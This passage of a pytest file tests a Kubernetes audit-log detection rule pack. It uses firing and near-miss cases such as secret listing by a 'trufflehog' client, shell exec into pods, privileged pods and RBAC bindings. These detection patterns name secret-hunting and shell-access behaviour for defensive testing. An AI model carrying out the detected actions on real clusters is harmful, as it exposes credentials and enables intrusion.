        lambda: [req("get", "secrets", ns="shop", name="db", user=f"{SA}azure-arc:guard")],
        lambda: [req("get", "secrets", ns="azure-arc", name="db", user=f"{SA}azure-arc:guard")],
    ),
    "recon-tool-client": (
        lambda: [req("list", "secrets", ua="trufflehog/3.63.2")],
        lambda: [req("list", "secrets", ua="kubectl/v1.30.0")],
    ),
    "refused-across-resources": (
        lambda: [
            req("list", r, code=403, decision="forbid", user="mallory", at=k * M)
            for k, r in enumerate(["pods", "secrets", "nodes"])
        ],
        lambda: [
            req("list", r, code=403, decision="forbid", user="mallory", at=k * M)
            for k, r in enumerate(["pods", "secrets", "pods"])
        ],
    ),
    "resource-discovery-brief": (
        lambda: walk(["namespaces", "nodes", "pods"]),
        lambda: walk(["namespaces", "nodes", "deployments"]),
    ),
    "self-rules-review": (
        lambda: reviews(1, 0, user="alice"),
        lambda: reviews(1, 0, user="system:kube-controller-manager"),
    ),
    "request-forbidden": (
        lambda: [req("get", "secrets", name="db", code=403, decision="forbid", user="bob")],
        lambda: [req("get", "secrets", name="db", code=404, user="bob")],
    ),
    "exec-shell-or-tool": (
        lambda: [exec_cmd("%2Fbin%2Fsh")],
        lambda: [exec_cmd("sh")],
    ),
    "deployment-patched": (
        lambda: [req("patch", "deployments", api="apps/v1", name="web")],
        lambda: [req("patch", "deployments", api="apps/v1", name="web", code=422)],
    ),
    "controller-account-pod": (
        lambda: [
            req(
                "create",
                "pods",
                ns="kube-system",
                name="p",
                code=201,
                body=pod_spec(serviceAccountName="daemon-set-controller"),
            )
        ],
        lambda: [
            req(
                "create",
                "pods",
                ns="kube-system",
                name="p",
                code=201,
                body=pod_spec(serviceAccountName="coredns"),
            )
        ],
    ),
    "binding-to-service-account": (
        lambda: rbac(
            "rolebindings",
            "create",
            201,
            body={
                "roleRef": {"kind": "ClusterRole", "name": "edit"},
                "subjects": [{"kind": "ServiceAccount", "name": "web", "namespace": "dev"}],
            },
        ),
        lambda: rbac(
            "rolebindings",
            "create",
            201,
            body={
                "roleRef": {"kind": "ClusterRole", "name": "edit"},
                "subjects": [{"kind": "User", "name": "bob"}],
            },
        ),
    ),
}


def test_the_table_covers_every_rule_of_the_pack():
    pack_ids = [r.id for r in PACK]
    assert len(pack_ids) == len(set(pack_ids))
    assert sorted(CASES) == sorted(pack_ids)


def test_the_falco_fixtures_named_in_the_table_exist():
    for pair in CASES.values():
        for side in pair:
            source = case(side).source
            if isinstance(source, str):
                assert (FALCO / source).is_file(), source


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_rule_fires(tmp_path, rule_id):
    store, _, fired, blind = case(CASES[rule_id][0]).run(tmp_path, rule_id)
    assert rule_id in fired, f"{rule_id} did not fire"
    finding = fired[rule_id]
    assert finding.count >= 1 and len(finding.rows)
    assert rule_id not in blind


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_rule_near_miss_does_not_fire(tmp_path, rule_id):
    store, _, fired, blind = case(CASES[rule_id][1]).run(tmp_path, rule_id)
    assert len(store) > 0
    assert rule_id not in fired
    # The rule could judge this log: quiet because of the difference, not for lack of data.
    assert rule_id not in blind


def test_disabled_rules_are_off_in_the_pack_and_silent_until_enabled(tmp_path):
    off = sorted(r.id for r in PACK if not r.enabled)
    assert off == [
        "admin-access",
        "disallowed-pod",
        "disallowed-user",
        "untrusted-node-failed",
        "untrusted-node-joined",
    ]
    store = store_of(tmp_path, "some-user_creates_namespace_foo.json")
    _, fired, _ = evaluate(store, PACK)
    assert "disallowed-user" not in fired
    _, fired, _ = evaluate(store, [on("disallowed-user")])
    assert "disallowed-user" in fired


def test_every_configmap_with_a_credential_counts(tmp_path):
    """Falco's fixture writes six configmaps, each with a different credential-looking key."""
    _, _, fired, _ = case("create_configmap_sensitive_values.json").run(
        tmp_path, "configmap-credentials"
    )
    assert fired["configmap-credentials"].count == 6


def test_privileged_second_container_and_other_fixtures_fire(tmp_path):
    for name, rule_id in [
        ("create_nginx_pod_privileged_2nd_container.json", "privileged-pod"),
        (
            "create_nginx_pod_no_secctx_1st_container_privileged_2nd_container.json",
            "privileged-pod",
        ),
        ("create_nginx_pod_sensitive_mount_2nd_container.json", "sensitive-mount-pod"),
        ("create_pod_kube_public_namespace.json", "pod-in-kube-namespace"),
        ("create_serviceaccount_kube_public_namespace.json", "sa-in-kube-namespace"),
        ("create_cluster_role_wildcard_resources.json", "wildcard-role"),
        ("attach_pod.json", "exec-attach"),
        ("anonymous_creates_namespace_foo.json", "disallowed-namespace"),
        ("modify_cluster_role_node_problem_detector.json", "system-role-modified"),
    ]:
        _, _, fired, _ = case(name).run(tmp_path, rule_id)
        assert rule_id in fired, (name, rule_id)


def test_anonymous_health_checks_are_not_reported(tmp_path):
    rule = "anonymous-allowed"
    # /version is public information too: from outside, anonymous-public-probe reports it
    for uri, fires in [("/healthz", False), ("/readyz?verbose", False), ("/version", False)]:
        ev = req("get", None, uri=uri, user="system:anonymous", groups=["system:unauthenticated"])
        _, _, fired, _ = case(lambda ev=ev: [ev]).run(tmp_path, rule)
        assert (rule in fired) is fires, uri


def test_an_unremarkable_request_fires_nothing(tmp_path):
    """The first get of a pod by a person: no enabled rule fires; with every rule on, only
    disallowed-user (alice is not in the shipped allowed_users: that list is the user's)."""
    store = store_of(tmp_path, [req("get", "pods", name="p1")])
    _, fired, _ = evaluate(store, PACK)
    assert fired == {}
    _, fired, _ = evaluate(store, [replace(r, enabled=True) for r in PACK])
    assert sorted(fired) == ["disallowed-user"]


# -- body rules on Metadata-level logs ----------------------------------------------------------

BODY_RULES = sorted(r.id for r in PACK if "request" in r.needs)


def test_body_rules_are_the_ones_with_a_where_on_the_request():
    assert len(BODY_RULES) >= 10
    assert all("requestObject" in RULE[r].where for r in BODY_RULES)
    # and the rules without needs do not read a body
    assert not any("requestObject" in r.where for r in PACK if r.id not in BODY_RULES)


def _events(source: Source | Case) -> list[dict]:
    src = case(source).source
    return falco(src) if isinstance(src, str) else src()


@pytest.mark.parametrize("rule_id", BODY_RULES)
def test_body_rule_on_a_metadata_copy_is_blind_and_silent(tmp_path, rule_id):
    firing = _events(CASES[rule_id][0])
    rule_case = case(CASES[rule_id][0])
    stripped = Case(lambda: [metadata_copy(e) for e in firing], rule_case.rule)
    _, _, fired, blind = rule_case.run(tmp_path, rule_id)
    assert rule_id in fired and blind == []  # with the body it fires and sees ...
    store, fx, fired, blind = stripped.run(tmp_path, rule_id)
    assert rule_id not in fired  # ... without, it cannot
    why = dict((r.id, w) for r, w in fx.blind(store))
    assert rule_id in why
    # "the N events it looks at were logged without a request body", or (a rule whose query
    # reads words of the body first) "no request bodies are logged for pods, … here"
    assert "request bod" in why[rule_id] and "Request or RequestResponse" in why[rule_id]


def test_ingress_without_tls_never_fires_on_a_missing_body(tmp_path):
    """An absence test: an event without a body has no spec.tls either, but that proves
    nothing. On a Metadata log the rule is blind; an event whose level promises a body it does
    not carry is looked at, and does not fire either."""
    meta = [metadata_copy(e) for e in ingress(tls=False)]
    store, fx, fired, blind = Case(lambda: meta).run(tmp_path, "ingress-without-tls")
    assert fired == {}
    assert blind == ["ingress-without-tls"]
    promised = [{**e, "level": "Request"} for e in meta]
    store, fx, fired, blind = Case(lambda: promised).run(tmp_path, "ingress-without-tls")
    assert fired == {}
    assert blind == []
    # The same request with its body fires (the rule is not simply dead).
    assert (
        "ingress-without-tls"
        in Case(lambda: ingress(tls=False)).run(tmp_path, "ingress-without-tls")[2]
    )


def test_a_body_rule_with_nothing_to_look_at_is_blind_only_when_bodies_are_missing(tmp_path):
    """No pod was created: a rule on pod bodies is blind when pods are logged at Metadata,
    not when they are logged with bodies, and not when no pod was touched at all."""
    rule = [on("privileged-pod")]
    meta = [req("get", "pods", name="p1")]
    full = [req("get", "pods", name="p1", level="RequestResponse")]
    other = [req("get", "configmaps", name="c1")]
    for events, blind in [(meta, ["privileged-pod"]), (full, []), (other, [])]:
        _, _, got = evaluate(store_of(tmp_path, events), rule)
        assert got == blind, events[0]["level"]


def test_a_metadata_event_beside_a_logged_body_still_makes_the_rule_see(tmp_path):
    """One pod create with its body and one without: the rule fires on the first and is not
    blind (it could look at some)."""
    events = falco("create_nginx_pod_privileged.json")
    events.append(metadata_copy(falco("create_nginx_pod_privileged_2nd_container.json")[0]))
    store, fx, fired, blind = Case(lambda: events).run(tmp_path, "privileged-pod")
    assert fired["privileged-pod"].count == 1
    assert blind == []


# -- the lists are the user's -------------------------------------------------------------------


def _user_rules(tmp_path: Path, text: str):
    path = tmp_path / "rules.yaml"
    path.write_text(text)
    rules = load_rules(path)
    assert rules.problems == []
    return rules.rules


def test_disallowed_user_honours_allowed_users(tmp_path):
    store = store_of(tmp_path, "some-user_creates_namespace_foo.json")
    rules = _user_rules(tmp_path, "enable: [disallowed-user]\n")
    assert "disallowed-user" in evaluate(store, rules)[1]
    rules = _user_rules(
        tmp_path, "enable: [disallowed-user]\nlists:\n  allowed_users: [some-user]\n"
    )
    assert "disallowed-user" not in evaluate(store, rules)[1]
    # system: identities are never reported, listed or not
    sa = store_of(tmp_path, "create_pod_kube_system_namespace.json")
    assert "disallowed-user" not in evaluate(sa, rules)[1]


@pytest.mark.parametrize(
    ("rule_id", "code"), [("untrusted-node-joined", 201), ("untrusted-node-failed", 403)]
)
def test_untrusted_node_rules_honour_allowed_nodes(tmp_path, rule_id, code):
    events = [
        req("create", "nodes", ns=None, name=n, code=code, at=k * S)
        for k, n in enumerate(["node-1", "node-2", "rogue"])
    ]
    store = store_of(tmp_path, events)
    rules = _user_rules(
        tmp_path, f"enable: [{rule_id}]\nlists:\n  allowed_nodes: [node-1, node-2]\n"
    )
    finding = evaluate(store, rules)[1][rule_id]
    assert finding.count == 1
    assert [store.value("name", i) for i in finding.rows] == ["rogue"]
    # Without the list every node is untrusted.
    rules = _user_rules(tmp_path, f"enable: [{rule_id}]\n")
    assert evaluate(store, rules)[1][rule_id].count == 3
